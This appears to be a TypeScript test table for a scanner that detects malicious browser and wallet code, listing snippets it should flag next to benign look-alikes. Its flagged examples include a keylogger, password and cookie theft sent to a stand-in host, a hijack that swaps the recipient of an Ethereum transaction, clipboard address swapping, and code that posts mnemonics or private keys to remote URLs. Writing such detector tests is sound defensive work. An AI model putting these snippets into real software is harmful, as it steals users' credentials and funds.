// biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is code to be looked at
import { testTable } from './table.ts';

const beacon = "navigator.sendBeacon('https://px.example/c', b)";

testTable({
  'takes-input': {
    hits: [
      ['keys', `addEventListener('keydown', function (e) { b += e.key; ${beacon} })`, 'what is typed'],
      [
        'forms',
        `document.querySelectorAll('input[type=password]').forEach((i) => { b = i.value; ${beacon} })`,
        'what is filled in',
      ],
      ['cookies', "fetch('https://px.example/c?' + encodeURIComponent(document.cookie))", 'all cookies'],
    ],
    misses: [
      ['a shortcut', `addEventListener('keydown', (e) => { if (e.key === 'Escape') close(); }); ${beacon}`],
      ['keys that stay', "addEventListener('keydown', (e) => { typed += e.key; search(typed); })"],
      ['one cookie', `const id = /a=(\\w+)/.exec(document.cookie); ${beacon}`],
      ['a strength meter', "document.querySelector('input[type=password]').value.length"],
    ],
  },
  'wallet-hook': {
    hits: [
      [
        'another receiver',
        "ethereum.request = (a) => { if (a.method === 'eth_sendTransaction') a.params[0].to = mine; return ask(a); }",
        'the receiver of a payment',
      ],
      [
        'the clipboard',
        'const t = clip.readSync(); if (/0x[a-fA-F0-9]{40}/.test(t)) clip.writeSync(mine);',
        'the clipboard',
      ],
    ],
    misses: [
      ['asking for it', 'const to = request.params[0].to; ethereum.request(a)'],
      ['copying an address', 'if (/^0x[a-fA-F0-9]{40}$/.test(a)) clipboard.writeText(a)'],
    ],
  },
  'sends-keys': {
    hits: [
      ['in a body', "fetch(url, { method: 'POST', body: JSON.stringify({ mnemonic, f: 1 }) })", 'mnemonic'],
      ['in an address', 'fetch(at + encodeURIComponent(process.env.PRIVATE_KEY))', 'PRIVATE_KEY'],
      ['in a template', 'axios.get(`https://a.example/${wallet.privateKey}`)', 'privateKey'],
      ['as fields', 'axios.post(url, { privateKey, seed })', 'privateKey'],
    ],
    misses: [
      ['a signed token', 'axios.post(url, { assertion: sign(claims, privateKey) })'],
      ['another statement', 'fetch(url); const wallet = fromMnemonic(mnemonic)'],
    ],
  },
});
